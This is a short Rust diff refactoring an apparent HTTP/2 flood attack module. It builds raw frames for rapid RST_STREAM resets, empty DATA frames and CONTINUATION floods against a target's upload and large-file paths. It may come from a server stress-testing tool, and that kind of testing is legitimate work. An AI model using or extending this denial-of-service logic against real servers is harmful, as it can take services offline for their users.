@@ -6,8 +6,8 @@ use tokio::io::{AsyncWriteExt, split};
 
 use super::{
     super::raw_http2::{
-        CONTINUATION, DATA, GO_AWAY, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, frame, get, preface,
-        read, request, window_update,
+        CONTINUATION, DATA, GO_AWAY, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, frame, preface, read,
+        window_update,
     },
     Attacker,
 };
@@ -45,7 +45,7 @@ impl Flood {
     /// Frames before the flood.
     fn start(self, attacker: &Attacker) -> Vec<u8> {
         match self {
-            Self::EmptyData => request(1, "POST", attacker.target.paths.upload, false),
+            Self::EmptyData => attacker.post(1, attacker.target.paths.upload),
             Self::Continuation => frame(HEADERS, 0, 1, &[]),
             _ => Vec::new(),
         }
@@ -61,7 +61,7 @@ impl Flood {
             Self::RstStream => {
                 let id = 2 * number + 1;
                 let cancel = frame(RST_STREAM, 0, id, &8_u32.to_be_bytes());
-                [get(id, attacker.target.paths.large), cancel].concat()
+                [attacker.get(id, attacker.target.paths.large), cancel].concat()
             }
             Self::EmptyData => frame(DATA, 0, 1, &[]),
             // A field without indexing, whose name and value have one byte.
